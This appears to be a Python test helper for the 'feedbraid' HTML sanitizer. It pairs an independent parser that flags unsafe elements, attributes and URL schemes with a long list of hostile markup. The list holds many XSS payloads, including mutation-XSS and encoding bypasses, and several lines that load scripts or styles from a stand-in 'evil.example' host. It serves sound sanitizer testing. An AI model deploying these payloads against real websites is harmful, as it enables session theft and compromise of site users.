"""Hostile markup, and a judge of cleaned bodies that shares no code with what cleans."""

from __future__ import annotations

import re
from html.parser import HTMLParser

from feedbraid import html

VOID = {"area", "br", "col", "hr", "img", "source", "track", "wbr"}
NAMES = {name for names in html.ATTRIBUTES.values() for name in names}
FORBIDDEN = {
    "applet",
    "base",
    "body",
    "button",
    "embed",
    "form",
    "frame",
    "iframe",
    "input",
    "link",
    "math",
    "meta",
}
FORBIDDEN |= {"noscript", "object", "script", "select", "style", "svg", "template", "textarea", "title"}


class Judge(HTMLParser):
    """Lists what is wrong with a cleaned body, by a tokenizer that shares no code with what cleans."""

    def __init__(self, *, iframes: bool = False) -> None:
        super().__init__()
        self.tags = html.TAGS | ({"iframe"} if iframes else set())
        self.faults: list[str] = []
        self.path: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.tags:
            self.faults.append(f"element {tag}")
        if tag not in VOID:
            self.path.append(tag)
        for name, value in attrs:
            self.judge_attribute(name, value or "")

    def judge_attribute(self, name: str, value: str) -> None:
        if name.startswith("on") or name in ("style", "srcdoc", "rel") or name not in NAMES:
            self.faults.append(f"attribute {name}")
        if name == "href" and not re.match(r"https?://[^/]|(?:ftp|geo|magnet|mailto|tel|xmpp):.", value):
            self.faults.append(f"link to {value}")
        if name in ("src", "poster", "cite") and not re.match(r"https?://[^/]", value):
            self.faults.append(f"{name} of {value}")
        if name == "srcset" and not all(re.match(r"https?://[^/]", part) for part in value.split(", ")):
            self.faults.append(f"srcset of {value}")

    def handle_endtag(self, tag: str) -> None:
        if not self.path or self.path.pop() != tag:
            self.faults.append(f"unbalanced {tag}")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data}")


def faults(markup: str, *, iframes: bool = False) -> list[str]:
    judge = Judge(iframes=iframes)
    judge.feed(markup)
    judge.close()
    return judge.faults + [f"open {tag}" for tag in judge.path]


# --- hostile markup ---------------------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="x" \x00onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<img src="vbscript:x" lowsrc="javascript:x" dynsrc="javascript:x">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="&#x6a;avascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://example.org/1">x</a>',
    '<a href="view-source:https://example.org/">x</a>',
    '<a href="https://a.example" ping="https://evil.example" target="_blank" rel="opener">x</a>',
    '<a href="x" style="position:fixed" onmouseover="alert(1)">x</a>',
    "<svg onload=alert(1)>",
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/><set to="javascript:x"/></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    '<math href="javascript:alert(1)">x</math>',
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<iframe src=x></iframe onload=alert(1)><script>alert(1)</script>",
    '<object data="javascript:alert(1)"><param name="movie" value="javascript:x"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
    '<embed src="javascript:alert(1)">',
    '<embed code="https://evil.example/x.swf" allowscriptaccess="always">',
    '<applet code="x"></applet>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noscript><iframe><noscript><img src=x onerror=alert(1)></noscript></iframe></noscript>",
    '<noscript><style><img title="</style><img src=x onerror=alert(1)>">',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><!--</style><script>alert(1)</script>-->",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/"><a href="x">x</a>',
    '<form action="javascript:alert(1)"><input type=image src=x formaction="javascript:x"></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select><option><script>alert(1)</script></select>",
    "<textarea><script>alert(1)</script></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<?php echo 1 ?><!DOCTYPE html [<!ENTITY x 'y'>]>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<video src="javascript:x" poster="javascript:alert(1)" onerror="x"></video>',
    '<video><source src="data:x" onerror=alert(1)></video>',
    "<audio src=x onerror=alert(1)><track src='javascript:x'></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee><blink>x</blink>",
    '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
    "<div style=\"background:url('javascript:alert(1)');width:expression(alert(1))\">x</div>",
    '<q cite="javascript:alert(1)">x</q><blockquote cite="data:x">y</blockquote>',
    "<p class='\"><script>alert(1)</script>'>x</p>",
    '<img alt="`><script>alert(1)</script>" src=x>',
    "<a href='https://a.example/\"onmouseover=\"alert(1)'>x</a>",
    "<p/onclick=alert(1)>x<p id=x tabindex=1 onfocus=alert(1)>",
    '<a href="https://a.example/&quot;><script>alert(1)</script>">x</a>',
    "<b><i><p></b></i></div></table>x</p>",
    "<table><a href=x><tr><td><a href=y><table><form><b>",
    '<a data-src="javascript:x"></a><img data-src="javascript:alert(1)" data-srcset="javascript:x 2x">',
    "<x-custom onclick=alert(1)>kept</x-custom><isindex prompt=x>",
    '<img src="https://user:secret@a.example/x.png">',
    "<frameset onload=alert(1)><frame src='javascript:x'></frameset>",
    "<body onload=alert(1)><html manifest=x>",
    "\ufeff<\x00script>alert(1)</\x00script>",
    "<ſcript>alert(1)</ſcript><İframe src=x>",
    "<<script>alert(1)//<</script>",
    "<a href='mailto:x@y.example?body=%0A\"><script>'>x</a>",
]
